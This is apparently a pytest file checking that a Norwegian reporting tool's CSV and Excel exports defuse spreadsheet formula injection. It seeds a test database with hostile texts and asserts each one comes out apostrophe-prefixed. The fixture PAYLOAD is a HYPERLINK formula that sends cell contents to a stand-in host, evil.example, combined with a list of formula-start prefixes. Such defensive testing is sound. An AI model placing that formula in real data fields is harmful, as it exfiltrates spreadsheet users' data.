"""Formula injection: no text in a CSV or Excel file, from `python -m klynge export` or from
a page's download buttons, is one a spreadsheet reads as a formula; numbers stay numbers.

Every text that starts like a formula gets a leading apostrophe (OWASP), in Excel too, where
it is also stored as a string marked as text. The browser's side of the downloads is in
tests/browser/test_safe_downloads.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import doctest
import io
import json
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import streamlit as st
from sqlalchemy import select, update
from streamlit.delta_generator import DeltaGenerator
from streamlit.testing.v1 import AppTest

from klynge import formulas
from klynge.exporting import write_frame
from klynge.store import schema
from klynge.store.engine import ensure_schema, make_engine
from klynge.store.importer import load_demo
from klynge.ui.texts import CATALOGUES, DEFAULT_LANGUAGE
from tests.conftest import REPO_ROOT
from tests.factories import example_values, master_data, write_csv, write_reports_csv
from tests.test_cli import klynge
from tests.test_pages import open_section

TEXTS = CATALOGUES[DEFAULT_LANGUAGE]
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
# What a spreadsheet may take for the start of a formula: OWASP's six, their full-width
# forms, and "=" after a space.
PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =")
PREFIX_IDS = ["equals", "plus", "minus", "at", "tab", "cr", "fw-equals", "fw-plus", "fw-minus", "fw-at", "space-equals"]
STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
NAME = "=" + PAYLOAD  # a hostile cluster name


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet could read `text`, a cell as written, as a formula (worked out
    here on its own, not with the code under test)."""
    return text[:1] in STARTS or text.lstrip()[:1] in STARTS


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_csv_safe(data: bytes) -> list[list[str]]:
    """No cell of the CSV `data` could be read as a formula, except a number; its rows."""
    rows = csv_rows(data)
    assert [cell for row in rows for cell in row if looks_like_formula(cell) and not is_number(cell)] == []
    return rows


def assert_xlsx_safe(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
    """No formula anywhere in the Excel `data`, and no text cell that would become one when
    edited; its first sheet."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert re.search(rb"<f[\s>/]", archive.read(name)) is None, name
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert [cell.coordinate for cell in texts if cell.data_type != "s"] == []
    assert [cell.value for cell in texts if looks_like_formula(cell.value)] == []
    return sheet


# ------------------------------------------------------------------ write_frame


def frame_with(text: str) -> pd.DataFrame:
    return pd.DataFrame({"text": [text], "count": [3], "share": [2.5], "change": [-7], "delta": [-1.25],
                         "mnok": [Decimal("-0.5")], "gap": [None], "date": [dt.date(2024, 1, 31)]})


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_csv_marks_a_text_that_starts_like_a_formula_and_keeps_the_numbers(prefix):
    rows = assert_csv_safe(write_frame(frame_with(prefix + PAYLOAD), "csv"))
    assert rows == [["text", "count", "share", "change", "delta", "mnok", "gap", "date"],
                    ["'" + prefix + PAYLOAD, "3", "2.5", "-7", "-1.25", "-0.5", "", "2024-01-31"]]


@pytest.mark.parametrize("prefix", PREFIXES, ids=PREFIX_IDS)
def test_excel_stores_a_text_that_starts_like_a_formula_as_text_and_numbers_as_numbers(prefix):
    sheet = assert_xlsx_safe(write_frame(frame_with(prefix + PAYLOAD), "xlsx"))
    text, *numbers, gap, date = sheet[2]
    # openpyxl writes a carriage return as it is; read with lxml (python-pptx needs it) it comes back as written.
    assert (text.value, text.data_type, text.quotePrefix) == ("'" + prefix + PAYLOAD, "s", True)
    assert [(cell.value, cell.data_type) for cell in numbers] == [(3, "n"), (2.5, "n"), (-7, "n"), (-1.25, "n"), (-0.5, "n")]
    assert (gap.value, date.value, date.data_type) == (None, "2024-01-31", "s")


def test_other_texts_are_written_as_they_are():
    texts = ["Arena Kystmat", "e-post og 3D-print", "100 %", "'sitat'", "Tromsø; Bodø", "", "x = y", "x\n- punkt"]
    frame = pd.DataFrame({"text": texts})
    assert [row[0] for row in csv_rows(write_frame(frame, "csv"))[1:]] == texts
    sheet = assert_xlsx_safe(write_frame(frame, "xlsx"))
    assert [cell.value or "" for cell in sheet["A"][1:]] == texts
    assert not any(cell.quotePrefix for cell in sheet["A"])


def test_a_text_that_starts_with_apostrophes_before_a_formula_gets_one_more():
    frame = pd.DataFrame({"text": ["'=1", "''-2", "'x"]})
    assert [row[0] for row in csv_rows(write_frame(frame, "csv"))[1:]] == ["''=1", "'''-2", "'x"]
    assert [formulas.restore_formula_text(cell.value) for cell in assert_xlsx_safe(write_frame(frame, "xlsx"))["A"][1:]] \
        == ["'=1", "''-2", "'x"]


def test_headers_are_marked_like_any_text():
    frame = pd.DataFrame({NAME: [1], "@konto": ["x"], 2024: [5]})
    assert csv_rows(write_frame(frame, "csv"))[0] == ["'" + NAME, "'@konto", "2024"]
    sheet = assert_xlsx_safe(write_frame(frame, "xlsx"))
    assert [cell.value for cell in sheet[1]] == ["'" + NAME, "'@konto", 2024]


def test_a_lone_carriage_return_in_a_text_does_not_start_a_new_row_in_csv():
    # Unquoted, "x\r@SUM(A1)" would be two rows to a spreadsheet, the second starting with a formula.
    data = write_frame(pd.DataFrame({"text": ["x\r@SUM(A1)", "y\r\nz"], "count": [1, 2]}), "csv")
    assert data == b'text,count\n"x\r@SUM(A1)",1\n"y\r\nz",2\n'
    assert assert_csv_safe(data) == [["text", "count"], ["x\r@SUM(A1)", "1"], ["y\r\nz", "2"]]


def test_json_is_data_and_is_written_as_it_is():
    texts = [prefix + PAYLOAD for prefix in PREFIXES]
    frame = pd.DataFrame({"text": texts, "count": range(len(texts))})
    assert json.loads(write_frame(frame, "json")) == [{"text": text, "count": index} for index, text in enumerate(texts)]


def test_the_examples_in_exporting_hold():
    assert doctest.testmod(formulas).failed == 0 and doctest.testmod(formulas).attempted >= 5


# ------------------------------------------------------------------ a hostile store


def hostile_database(path: Path) -> str:
    """The demo data in a SQLite file at `path`, with one cluster named NAME and, in the
    newest year, one report per prefix whose international description and effect story are
    that prefix and PAYLOAD. Written straight into the store, as in
    tests/browser/test_hostile.py: what matters is what an export does with whatever the
    store holds. Returns its URL."""
    url = f"sqlite:///{path}"
    engine = make_engine(url)
    ensure_schema(engine)
    load_demo(engine)
    R, C = schema.annual_reports, schema.clusters
    with engine.begin() as conn:
        year = conn.execute(select(R.c.report_year).order_by(R.c.report_year.desc()).limit(1)).scalar_one()
        cluster_ids = conn.execute(select(R.c.cluster_id).where(R.c.report_year == year).order_by(R.c.cluster_id)
                                   .limit(len(PREFIXES))).scalars().all()
        assert len(cluster_ids) == len(PREFIXES)
        conn.execute(update(C).where(C.c.id == cluster_ids[0]).values(name=NAME))
        conn.execute(update(R).where(R.c.cluster_id == cluster_ids[0]).values(cluster_name=NAME))
        for cluster_id, prefix in zip(cluster_ids, PREFIXES):
            conn.execute(update(R).where(R.c.cluster_id == cluster_id, R.c.report_year == year).values(
                international_activities_description=prefix + PAYLOAD, story_effect=prefix + PAYLOAD))
    engine.dispose()
    return url


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory):
    return hostile_database(tmp_path_factory.mktemp("hostile-exports") / "hostile.db")


MARKED = {"'" + prefix + PAYLOAD for prefix in PREFIXES}


def test_the_cli_export_marks_every_hostile_text_in_csv(hostile_url, tmp_path):
    out = tmp_path / "export.csv"  # a file, since the text of stdout turns a "\r" into a "\n"
    result = klynge("export", "--format", "csv", "-o", str(out), database=hostile_url, tmp_path=tmp_path)
    assert result.returncode == 0, result.stderr
    rows = assert_csv_safe(out.read_bytes())
    header, body = rows[0], [dict(zip(rows[0], row)) for row in rows[1:]]
    assert {"report_year", "new_jobs", "international_activities_description"} <= set(header)
    assert MARKED <= {row["international_activities_description"] for row in body}
    assert MARKED <= {row["story_effect"] for row in body}
    assert "'" + NAME in {row["cluster_name"] for row in body}
    assert all(row["report_year"].isdigit() and row["new_jobs"].isdigit() for row in body)


def test_the_cli_export_marks_every_hostile_text_in_excel(hostile_url, tmp_path):
    out = tmp_path / "export.xlsx"
    result = klynge("export", "--format", "xlsx", "-o", str(out), database=hostile_url, tmp_path=tmp_path)
    assert result.returncode == 0, result.stderr
    sheet = assert_xlsx_safe(out.read_bytes())
    header = [cell.value for cell in sheet[1]]
    columns = {name: [row[header.index(name)] for row in sheet.iter_rows(min_row=2)] for name in
               ("report_year", "new_jobs", "cluster_name", "international_activities_description", "story_effect")}
    marked = set(MARKED)  # read with lxml, as written: see the Excel test above
    for name in ("international_activities_description", "story_effect"):
        hostile = [cell for cell in columns[name] if PAYLOAD in (cell.value or "")]
        assert {cell.value for cell in hostile} == marked
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
    assert "'" + NAME in {cell.value for cell in columns["cluster_name"]}
    assert {cell.data_type for cell in columns["report_year"] + columns["new_jobs"]} == {"n"}


HOSTILE_TEXTS = {"cluster_name": NAME, "leader_name": "@Leder", "international_activities_description": "+47 22 00 00 00",
                 "story_societal": "- Felles returordning.\n- To kommuner.", "story_effect": "=1+1"}


@pytest.fixture
def imported_hostile(tmp_path):
    """A SQLite database with one report whose texts start like formulas, imported with the
    CLI from master data whose cluster is named NAME; its URL."""
    url = f"sqlite:///{tmp_path / 'k.db'}"
    assert klynge("init", "--empty", database=url, tmp_path=tmp_path).returncode == 0
    master = master_data(tmp_path / "master")
    clusters = list(csv.DictReader((master / "clusters.csv").open(encoding="utf-8", newline="")))
    clusters[0]["name"] = NAME
    write_csv(master / "clusters.csv", clusters)
    write_reports_csv(tmp_path / "reports.csv", [example_values(**HOSTILE_TEXTS)])
    imported = klynge("import", str(master), str(tmp_path / "reports.csv"), database=url, tmp_path=tmp_path)
    assert imported.returncode == 0, imported.stderr
    return url


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_texts_imported_with_the_cli_are_exported_marked(imported_hostile, tmp_path, fmt):
    out = tmp_path / f"export.{fmt}"
    assert klynge("export", "--format", fmt, "-o", str(out), database=imported_hostile, tmp_path=tmp_path).returncode == 0
    if fmt == "csv":
        rows = assert_csv_safe(out.read_bytes())
        [row] = [dict(zip(rows[0], row)) for row in rows[1:]]
    else:
        sheet = assert_xlsx_safe(out.read_bytes())
        [row] = [{cell.value: value.value for cell, value in zip(sheet[1], line)} for line in sheet.iter_rows(min_row=2)]
    assert {name: row[name] for name in HOSTILE_TEXTS} == {name: "'" + text for name, text in HOSTILE_TEXTS.items()}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_marked_texts_imports_back_unchanged(imported_hostile, tmp_path, fmt):
    out = tmp_path / f"export.{fmt}"
    assert klynge("export", "--format", fmt, "-o", str(out), database=imported_hostile, tmp_path=tmp_path).returncode == 0
    again = klynge("import", str(out), database=imported_hostile, tmp_path=tmp_path)
    assert again.returncode == 0, again.stderr
    assert "reports: 0 new, 0 replaced, 1 unchanged" in again.stdout


# ------------------------------------------------------------------ the download buttons

DASHBOARD = str(REPO_ROOT / "dashboard.py")


@pytest.fixture
def clear_caches():
    st.cache_data.clear()
    st.cache_resource.clear()
    yield
    st.cache_data.clear()
    st.cache_resource.clear()


@pytest.fixture
def downloads_made(monkeypatch, clear_caches):
    """The files of the download buttons a page draws, in order, as (file name, bytes).

    AppTest has no media file manager, so a button's data, made when it is clicked, never
    becomes a file there: it is caught on its way into `download_button` (Streamlit's
    public API; `klynge.ui.components.downloads` draws the buttons in columns) and made as
    a click would make it."""
    caught: list[tuple[str, object]] = []
    original = DeltaGenerator.download_button

    def download_button(self, label, data, *args, **kwargs):
        caught.append((kwargs.get("file_name"), data))
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", download_button)
    return lambda: [(name, data() if callable(data) else data) for name, data in caught]


def open_page(url: str, page: str, monkeypatch, **params) -> AppTest:
    monkeypatch.setenv("KLYNGE_DATABASE_URL", url)
    at = AppTest.from_file(DASHBOARD, default_timeout=60)
    for key, value in params.items():
        at.query_params[key] = value
    at.run()
    if page != "pages/oversikt.py":
        at.switch_page(page)
        at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_the_searched_descriptions_download_marks_every_hostile_text(hostile_url, monkeypatch, downloads_made):
    open_page(hostile_url, "pages/internasjonalt.py", monkeypatch, sok="hyperlink")
    files = dict(downloads_made())
    [csv_name] = [name for name, data in files.items() if name.endswith(".csv") and TEXTS["col.description"].encode() in data]
    rows = assert_csv_safe(files[csv_name])
    body = [dict(zip(rows[0], row)) for row in rows[1:]]
    assert MARKED <= {row[TEXTS["col.description"]] for row in body}
    assert "'" + NAME in {row[TEXTS["col.cluster"]] for row in body}

    sheet = assert_xlsx_safe(files[csv_name.removesuffix(".csv") + ".xlsx"])
    header = [cell.value for cell in sheet[1]]
    descriptions = [row[header.index(TEXTS["col.description"])] for row in sheet.iter_rows(min_row=2)]
    hostile = [cell for cell in descriptions if PAYLOAD in (cell.value or "")]
    assert {cell.value for cell in hostile} >= set(MARKED)  # read with lxml, as written
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in hostile)
    years = [row[header.index(TEXTS["col.year"])] for row in sheet.iter_rows(min_row=2)]
    assert {cell.data_type for cell in years} == {"n"}


def test_a_table_download_marks_a_hostile_cluster_name(hostile_url, monkeypatch, downloads_made):
    at = open_page(hostile_url, "pages/oversikt.py", monkeypatch)
    open_section(at, "pages/oversikt.py", "clusters")
    files = downloads_made()
    # The run that opened the clusters: the key figures per level, then the clusters (with the hostile name).
    assert [name.rsplit(".", 1)[1] for name, _ in files[-4:]] == ["csv", "xlsx", "csv", "xlsx"]
    (_, csv_data), (_, xlsx_data) = files[-2:]
    rows = assert_csv_safe(csv_data)
    column = rows[0].index(TEXTS["col.cluster"])
    assert "'" + NAME in [row[column] for row in rows[1:]]
    members = rows[0].index(TEXTS["col.register_members"])
    assert all(row[members].isdigit() for row in rows[1:])
    sheet = assert_xlsx_safe(xlsx_data)
    [cell] = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value == "'" + NAME]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
    assert {row[members].data_type for row in sheet.iter_rows(min_row=2)} == {"n"}
